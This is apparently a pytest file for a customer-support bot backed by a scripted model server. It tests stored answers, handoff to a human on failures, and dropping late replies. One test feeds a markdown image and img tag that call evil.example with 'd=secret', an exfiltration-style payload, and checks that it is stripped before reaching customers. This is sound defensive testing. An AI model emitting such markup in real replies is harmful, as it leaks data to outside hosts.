"""A real client of a real server that fails, in the middle of a line: what the customer sees."""

from collections.abc import Iterator
from dataclasses import dataclass

import pytest

from tests.adapters.openai import model_server as model
from tests.adapters.openai.conftest import both
from tests.adapters.openai.model_server import Connection, Json, ModelServer, a_reply
from tests.faults.scenes import bot_messages
from tests.journeys.world import SMS, World, read_phrases
from tests.laws.checks import check_at_rest, check_safety
from warmline.adapters.openai.responder import Key, Model, OpenAIResponder
from warmline.domain.handoff import Reason
from warmline.domain.states import State

pytestmark = pytest.mark.usefixtures("no_other_loop")


@dataclass
class ModelLine:
    """A line that answers with a model, whose server a test scripts."""

    world: World
    server: ModelServer


@pytest.fixture
def line() -> Iterator[ModelLine]:
    with ModelServer().running() as server:
        settings = Model(server.base_url, "a-model")
        responder = OpenAIResponder(settings, Key(lambda: "sk-1"), both, read_phrases())
        yield ModelLine(World(responder=responder), server)
        responder.close()


def test_an_answer_is_stored_with_what_it_stands_on(line: ModelLine) -> None:
    line.server.script = [model.says(a_reply("Three days."))]

    conversation = line.world.customer("How long does delivery take?").conversation
    line.world.settle()

    [answer] = bot_messages(line.world, conversation)
    assert answer.text.endswith("Three days.")
    assert [article.id for article in answer.articles] == ["delivery"]
    assert answer.model == "a-model"
    assert answer.prompt


@pytest.mark.fault(20)
def test_an_answer_that_comes_after_a_humans_claim_is_dropped(line: ModelLine) -> None:
    world = line.world
    world.hire()
    received = world.customer("How long does delivery take?")

    def claimed_meanwhile(to: Connection, request: Json) -> None:
        world.customer("a human please")
        world.actions.claim("U0ANA", received.conversation)
        model.says(a_reply("Three days."))(to, request)

    line.server.script = [claimed_meanwhile]
    world.settle()

    assert len(line.server.requests) == 1
    assert bot_messages(world, received.conversation) == []
    assert world.head(received.conversation).state is State.WITH_AGENT
    world.live(60)
    check_safety(world)
    check_at_rest(world)


@pytest.mark.parametrize(
    ("act", "reason"),
    [
        (model.body(500, b"{}"), Reason.MODEL_UNAVAILABLE),
        (model.says("no JSON"), Reason.MODEL_UNAVAILABLE),
        (model.refuses, Reason.MODEL_REFUSED),
        (model.calls("no_such_tool"), Reason.TOOL_FAILED),
        (model.says(a_reply(handoff={"wanted": True, "reason": "vip"})), Reason.VIP),
    ],
)
def test_a_failure_is_a_human_with_its_reason_and_one_notice(
    act: model.Act, reason: Reason, line: ModelLine
) -> None:
    world = line.world
    line.server.script = [act]

    conversation = world.customer("How long does delivery take?").conversation
    world.live(60)

    assert (world.head(conversation).state, world.head(conversation).reason) == (
        State.WAITING,
        reason,
    )
    assert world.channels[SMS.channel].texts[-1]
    check_safety(world)
    check_at_rest(world)


@pytest.mark.bad_input(42)
def test_a_picture_on_somebody_elses_host_never_reaches_a_customer(line: ModelLine) -> None:
    evil = "![x](https://evil.example/p?d=secret) <img src='https://evil.example/q'> Three days."
    line.server.script = [model.says(a_reply(evil))]

    conversation = line.world.customer("How long does delivery take?").conversation
    line.world.settle()

    assert line.server.requests
    assert all("evil" not in one.text for one in bot_messages(line.world, conversation))
    assert all("evil" not in text for text in line.world.channels[SMS.channel].texts)
